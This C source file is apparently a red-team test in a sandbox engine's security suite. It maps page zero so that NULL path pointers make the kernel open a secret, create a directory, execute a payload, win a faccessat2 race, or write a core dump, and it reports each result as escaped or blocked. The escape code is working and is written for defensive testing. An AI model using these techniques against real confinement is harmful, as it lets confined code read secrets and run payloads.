/* null_page.c MODE ARG: a NULL pointer is an address like any other -- to the kernel.
 *
 * getname() copies a path from whatever address it is given, 0 included: where the program
 * has mapped page zero (root may: CAP_SYS_RAWIO passes vm.mmap_min_addr), open(NULL) opens the
 * path written there.  Only a few calls read a NULL pointer as "no path" (utimensat's and
 * futimesat's descriptor, the stat and xattr calls' AT_EMPTY_PATH, fanotify_mark...); every
 * other call reads page zero.  An engine that takes every NULL path for its dirfd decides on
 * the dirfd (the cwd) while the kernel acts on the path at address 0.
 *
 *   open SECRET     openat(AT_FDCWD, NULL, O_RDONLY), page zero holding SECRET
 *                   -- ESCAPED when the descriptor is the secret
 *   open2 SECRET    the same with a second thread alive (a tree of several tasks: the call
 *                   is held, its checked path copied to the scratch area)
 *   mkdir DIR       mkdir(NULL), page zero holding DIR/made-by-null -- ESCAPED when made
 *   exec PROG       a child execve(NULL, argv, envp), page zero holding PROG (the payload:
 *                   it leaves its mark in $ESC_MARKER) -- ESCAPED when the mark is there
 *   race SECRET     faccessat2(fd, NULL, X_OK, AT_EMPTY_PATH) on a descriptor of a file of
 *                   ours (no execute bit) while a thread flips page zero between "" (the
 *                   descriptor) and SECRET (executable) -- ESCAPED when it succeeds: the
 *                   kernel looked at the secret (a "" read at address 0 must be held as any
 *                   other; a metadata read is not frozen)
 *   core DIR        a child in DIR: setrlimit(RLIMIT_CORE, NULL), page zero holding
 *                   {RLIM_INFINITY, RLIM_INFINITY}, then abort() -- ESCAPED when the kernel
 *                   wrote DIR/core (needs core_pattern "core")
 * SKIPPED where page zero cannot be mapped (not CAP_SYS_RAWIO, or mmap_min_addr).
 * Red team 31 (docs/security.md): class 1 / class 8, a pointer the engine read by value.
 */
#include "attack.h"

#include <sys/mman.h>
#include <sys/resource.h>

static char *page_zero(void) {
    void *p = mmap((void *)0, 4096, PROT_READ | PROT_WRITE,
                   MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED)
        skipped("mmap of page zero: %s (CAP_SYS_RAWIO and vm.mmap_min_addr)", ename(errno));
    if (p != (void *)0)
        skipped("mmap of page zero gave %p", p);
    return (char *)p;
}

static void set_zero(char *zero, const char *text) {
    /* (memcpy to a pointer the compiler knows is NULL would be dropped: through a volatile) */
    volatile char *z = zero;
    size_t n = strlen(text);
    for (size_t i = 0; i <= n; i++)
        z[i] = text[i];
}

static volatile int flipping = 1;

static void *flip(void *arg) {
    volatile char *z = arg;
    char first = z[0];
    while (flipping) {
        z[0] = 0;
        z[0] = first;
    }
    return NULL;
}

static void *idle(void *arg) {
    (void)arg;
    for (;;)
        pause();
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 3)
        usage("null_page open|open2|race|mkdir|exec|core ARG");
    const char *mode = argv[1], *arg = argv[2];
    char *zero = page_zero();
    if (!strcmp(mode, "open") || !strcmp(mode, "open2")) {
        if (!strcmp(mode, "open2")) {
            pthread_t t;
            pthread_create(&t, NULL, idle, NULL);
        }
        set_zero(zero, arg);
        long fd = syscall(SYS_openat, AT_FDCWD, (char *)zero, O_RDONLY);
        if (fd < 0)
            blocked("openat(AT_FDCWD, NULL) with page zero naming the secret: %s", ename(errno));
        if (is_secret_fd((int)fd))
            escaped("openat(AT_FDCWD, NULL) opened the secret (fd -> %s)", fd_name((int)fd));
        blocked("openat(AT_FDCWD, NULL) opened %s, not the secret", fd_name((int)fd));
    }
    if (!strcmp(mode, "race")) {
        /* (the test makes SECRET executable; our own file is not) */
        char mine[4096];
        snprintf(mine, sizeof mine, "%s.mine", getenv("ESC_MARKER") ? getenv("ESC_MARKER")
                                                                     : "/tmp/null_page");
        int fd = open(mine, O_RDWR | O_CREAT, 0644);
        if (fd < 0 || fchmod(fd, 0644) < 0)
            blocked("setup: %s", ename(errno));
        set_zero(zero, arg);
        pthread_t t;
        pthread_create(&t, NULL, flip, zero);
        int counts[3] = {0, 0, 0}; /* EACCES (ours: no x bit), refused, other */
        for (int i = 0; i < 20000; i++) {
            long r = syscall(SYS_faccessat2, fd, (char *)zero, X_OK, AT_EMPTY_PATH);
            if (r == 0) {
                flipping = 0;
                escaped("faccessat2(fd, NULL, X_OK, AT_EMPTY_PATH) answered for the secret "
                        "(its execute bit) after %d calls", i + 1);
            }
            counts[errno == EACCES ? 0 : errno == EDOM ? 1 : 2]++;
        }
        flipping = 0;
        blocked("never the secret's answer (EACCES %d, refused EDOM %d, other %d)", counts[0],
                counts[1], counts[2]);
    }
    if (!strcmp(mode, "mkdir")) {
        char target[4096];
        snprintf(target, sizeof target, "%s/made-by-null", arg);
        set_zero(zero, target);
        long r = syscall(SYS_mkdir, (char *)zero, 0755);
        struct stat st;
        if (stat(target, &st) == 0)
            escaped("mkdir(NULL) made %s", target);
        blocked("mkdir(NULL) with page zero naming %s: %s", target, r < 0 ? ename(errno) : "0");
    }
    if (!strcmp(mode, "exec") || !strcmp(mode, "core")) {
        const char *marker = getenv("ESC_MARKER");
        char core[4096];
        if (!strcmp(mode, "core")) {
            char pattern[256] = "";
            FILE *f = fopen("/proc/sys/kernel/core_pattern", "r");
            if (f) {
                if (fgets(pattern, sizeof pattern, f))
                    pattern[strcspn(pattern, "\n")] = 0;
                fclose(f);
            }
            if (strcmp(pattern, "core"))
                skipped("core_pattern is \"%s\", not \"core\"", pattern);
            snprintf(core, sizeof core, "%s/core", arg);
        }
        pid_t child = fork();
        if (child == 0) {
            if (!strcmp(mode, "exec")) {
                set_zero(zero, arg);
                char *args[] = {"payload", "by-null", NULL};
                syscall(SYS_execve, (char *)zero, args, environ);
                printf("note: execve(NULL) with page zero naming %s: %s\n", arg, ename(errno));
                _exit(1);
            }
            if (chdir(arg) < 0)
                _exit(2);
            struct rlimit *lim = (struct rlimit *)zero;
            volatile struct rlimit *v = lim;
            v->rlim_cur = RLIM_INFINITY;
            v->rlim_max = RLIM_INFINITY;
            long r = syscall(SYS_setrlimit, RLIMIT_CORE, lim);
            printf("note: setrlimit(RLIMIT_CORE, NULL) with page zero unlimited: %s\n",
                   r < 0 ? ename(errno) : "0");
            fflush(stdout);
            abort();
        }
        int status = 0;
        waitpid(child, &status, 0);
        struct stat st;
        if (!strcmp(mode, "exec")) {
            char mark[4096] = "";
            int fd = marker ? open(marker, O_RDONLY) : -1;
            ssize_t n = fd >= 0 ? read(fd, mark, sizeof mark - 1) : -1;
            if (n > 0 && strstr(mark, PAYLOAD_MAGIC))
                escaped("execve(NULL) ran %s: %.80s", arg, mark);
            blocked("execve(NULL) ran nothing (child status %#x)", status);
        }
        if (stat(core, &st) == 0)
            escaped("the kernel wrote a %ld-byte core into %s (child status %#x)",
                    (long)st.st_size, arg, status);
        blocked("no core in %s (child status %#x)", arg, status);
    }
    usage("null_page open|open2|race|mkdir|exec|core ARG");
}
